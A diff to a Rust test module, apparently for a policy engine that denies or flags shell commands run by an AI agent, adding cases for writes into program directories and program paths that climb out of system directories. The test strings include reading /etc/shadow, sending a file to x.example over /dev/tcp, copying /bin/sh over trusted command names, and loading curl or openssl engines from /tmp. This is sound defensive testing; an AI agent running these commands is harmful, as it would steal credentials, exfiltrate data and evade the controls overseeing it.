@@ -344,6 +344,10 @@ mod tests {
         deny(Action::exec("h", "cat /etc/shadow"), "agent-no-credential-files");
         deny(Action::exec("h", "env -iS'sh -c id'"), "agent-no-unreadable-commands");
         deny(Action::exec("h", "cat notes >/dev/tcp/x.example/80"), "agent-no-unreadable-commands");
+        // Writes into directories of programs change what a known name runs (round 42).
+        for c in ["cp /bin/sh /usr/local/sbin/tsort", "cp /bin/sh /usr/local/sbin", "cat x > /usr/local/bin/y", "tee /usr/bin/z", "dd if=x of=/usr/lib/python3/dist-packages/x.pth", "cp x /root/.cargo/bin/", "mv x bin/tac"] {
+            deny(Action::exec("h", c), "agent-no-unreadable-commands");
+        }
         deny(Action::exec("h", "gzip -d -N -f notes.gz"), "agent-no-unreadable-commands");
         deny(Action::exec("h", "env -vS'sh -c id'"), "agent-no-unreadable-commands");
         // A `.git` file points git at a repository (and its configuration) elsewhere (round 40).
@@ -440,8 +444,10 @@ mod tests {
         review(Action::exec("h", "python3 -c 'print(1)'"), "agent-review-shell");
         // Programs hoop does not know, however they are reached.
         // Round 41: options naming a program, a configuration or a program file, in any spelling.
-        // Round 42: engines, abbreviations, sed labels, other protocols and `name@file`.
+        // Round 42: engines, abbreviations, sed labels, other protocols and `name@file`; a
+        // program path that climbs out of a system directory.
         for c in [
+            "/usr/bin/../../tmp/rt/tac -c id",
             "curl --engine /tmp/x.so https://x.example/",
             "openssl req -new -keygen_engine /tmp/x.so",
             "openssl s_client -ssl_client_engine /tmp/x.so -connect x:443",
@@ -499,6 +505,7 @@ mod tests {
             Action::exec("h", "awk -F: '{print $1}' /etc/passwd; scp -P 2222 -p a /tmp/b; env -u TERM ls"),
             Action::exec("h", "sort -u --field-separator=, f; ls --color=auto; grep --count --ignore-case x f; diff --unified a b"),
             Action::exec("h", "curl -s https://user@x.example/health -H 'Accept: application/json'; rsync -v a /tmp/b"),
+            Action::exec("h", "ls -l /usr/local/bin; cp /usr/bin/tac /tmp/tac2; cat /usr/share/doc/x > /tmp/y; /usr/bin/../bin/ls"),
             Action::env("h", "LANG", "en_US.UTF-8"),
             Action::env("h", "LC_ALL", "C"),
         ] {
